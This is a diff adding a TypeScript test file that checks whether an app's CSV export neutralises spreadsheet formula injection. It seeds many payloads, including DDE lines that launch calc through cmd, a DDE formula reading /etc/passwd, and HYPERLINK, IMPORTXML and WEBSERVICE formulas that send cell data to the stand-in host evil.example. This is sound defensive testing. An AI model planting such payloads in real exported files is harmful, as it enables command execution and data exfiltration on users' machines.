@@ -1,0 +1,166 @@
+import { spawnSync } from 'node:child_process';
+import { readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { unsafeCell } from '@leadloom/server/csv/safe-cell';
+import { readCsv } from '@leadloom/server/testing/read-csv';
+import { addRows } from '@leadloom/server/testing/table-rows';
+import { makeTemporaryDirectory, removeDirectory } from '@leadloom/server/testing/temporary-directory';
+import { startTestServer, type TestServer } from '@leadloom/server/testing/test-server';
+import { companies } from '@leadloom/shared/tables/companies';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { addPerson, type Person, tell } from './world.ts';
+
+const leads = [
+  '',
+  ' ',
+  '   ',
+  '\t',
+  '\r',
+  '\n',
+  '\v',
+  '\f',
+  '\r\n',
+  '\t ',
+  '\u0085',
+  '\u00a0',
+  '\u00ad',
+  '\u061c',
+  '\u200b',
+  '\u200e',
+  '\u2028',
+  '\u2060',
+  '\u3000',
+  '\ufeff',
+  ' \u00ad',
+  "'",
+  "''",
+  '"',
+  '""',
+  ',',
+  ';',
+];
+const payloads = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '﹦1+1',
+  '⁺1+1',
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '@DDE("cmd";"/C calc";"x")',
+  '=DDE("soffice";"/etc/passwd";"x")',
+  '=HYPERLINK("http://evil.example/?x="&A1;"open")',
+  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+  '=IMPORTXML(CONCAT("http://evil.example/?v=";A1:A9);"//a")',
+  '=WEBSERVICE("http://evil.example/"&A1)',
+  '=1+1\n=2+2',
+  '"=1+1"',
+  '=1+1","=2+2',
+  '=1;=2',
+  '+49 30 555010, =1+1',
+  "+49 30 555010'!A0",
+  '-',
+  '=',
+  '+',
+  '@',
+];
+/** What the rule lets be: none of these is a formula to anybody. */
+const harmless = ['-12', '+3.5', '+49 30 555010', '+1 (555) 010-2030', 'a=b', 'maren@example.com', '12', 'plain text'];
+const cells = [...leads.flatMap((lead) => payloads.map((payload) => `${lead}${payload}`)), ...harmless];
+
+/** Judged by other code than the one that made the cell: what a spreadsheet shows may begin a formula, and is no plain number. */
+function isDangerous(cell: string): boolean {
+  if (/^[\t\r\0]/.test(cell)) return true;
+  const shown = cell.replace(/^[\p{C}\p{Z}\s]+/u, '').normalize('NFKC');
+  return /^[=@]/.test(shown) || (/^[+-]/.test(shown) && !/^[+-]\d[\d ().,;/+%-]*$/.test(shown));
+}
+
+const OFFICE = 'soffice';
+
+/** Formulas a spreadsheet finds in a file; null where there is no spreadsheet. */
+async function formulasIn(csv: string): Promise<number | null> {
+  if (spawnSync(OFFICE, ['--version']).status !== 0) return null;
+  const directory = await makeTemporaryDirectory('office');
+  try {
+    await writeFile(join(directory, 'cells.csv'), csv);
+    const profile = `-env:UserInstallation=file://${directory}/profile`;
+    // Comma, double quote, UTF-8, from the first line.
+    const reading = ['--headless', '--infilter=CSV:44,34,76,1', '--convert-to', 'fods', '--outdir', directory];
+    const { status, stderr } = spawnSync(OFFICE, [profile, ...reading, join(directory, 'cells.csv')], { encoding: 'utf8' });
+    if (status !== 0) throw new Error(`the spreadsheet could not read the file: ${stderr}`);
+    return (await readFile(join(directory, 'cells.fods'), 'utf8')).split('table:formula=').length - 1;
+  } finally {
+    await removeDirectory(directory);
+  }
+}
+
+describe('cells of an exported file', { timeout: 120_000 }, () => {
+  let server: TestServer;
+  let person: Person;
+  const counts = {
+    cells: 0,
+    'dangerous before': 0,
+    'dangerous in the file': 0,
+    'not given back as they were': 0,
+    'formulas in a spreadsheet': 0,
+  };
+  beforeAll(async () => {
+    server = await startTestServer({ environment: { TRIAL_EXPORT_LIMIT: '100000' } });
+    person = await addPerson(server);
+    const rows = cells.map((cell, index) => ({
+      name: cell,
+      description: `${cell} `,
+      verticals: [cell, 'other'],
+      employee_count: index,
+    }));
+    await addRows(server.database, companies, rows);
+  });
+  afterAll(async () => {
+    tell('CSV cells (S19)', counts);
+    await server.close();
+  });
+
+  const exported = async () => {
+    const query = 'sort=employee_count&columns=name&columns=description&columns=verticals&columns=employee_count';
+    const answer = await server.app.inject({ url: `/api/v1/table/companies/export?${query}`, headers: person.bearer });
+    expect(answer.statusCode).toBe(200);
+    return answer.payload;
+  };
+
+  it('are many, and most of them dangerous', () => {
+    counts['dangerous before'] = cells.filter(isDangerous).length;
+    expect(counts['dangerous before']).toBeGreaterThan(500);
+    expect(harmless.filter(isDangerous)).toEqual([]);
+  });
+
+  it('hold no formula, and are what they were once the apostrophes are taken off', async () => {
+    const { records } = readCsv(await exported());
+    expect(records).toHaveLength(cells.length);
+    for (const [index, [name = '', description = '', verticals = '', count]] of records.entries()) {
+      expect(count).toBe(String(index));
+      const written = [name, description, verticals];
+      const meant = [cells[index], `${cells[index]} `, `${cells[index]}, other`];
+      counts.cells += written.length;
+      counts['dangerous in the file'] += written.filter(isDangerous).length;
+      counts['not given back as they were'] += written.filter((cell, at) => unsafeCell(cell) !== meant[at]).length;
+    }
+    expect(counts).toMatchObject({ 'dangerous in the file': 0, 'not given back as they were': 0 });
+    const last = records.slice(-harmless.length).map(([name]) => name);
+    expect(last).toEqual(harmless);
+  });
+
+  it('are no formulas to a spreadsheet, where one is installed', async () => {
+    const unescaped = cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join('\n');
+    const [before, after] = [await formulasIn(unescaped), await formulasIn(await exported())];
+    counts['formulas in a spreadsheet'] = after ?? 0;
+    // Without a spreadsheet the test above stands alone; with one, it must have found what there was to find.
+    expect(after ?? 0).toBe(0);
+    expect(before ?? cells.length).toBeGreaterThan(0);
+  });
+});
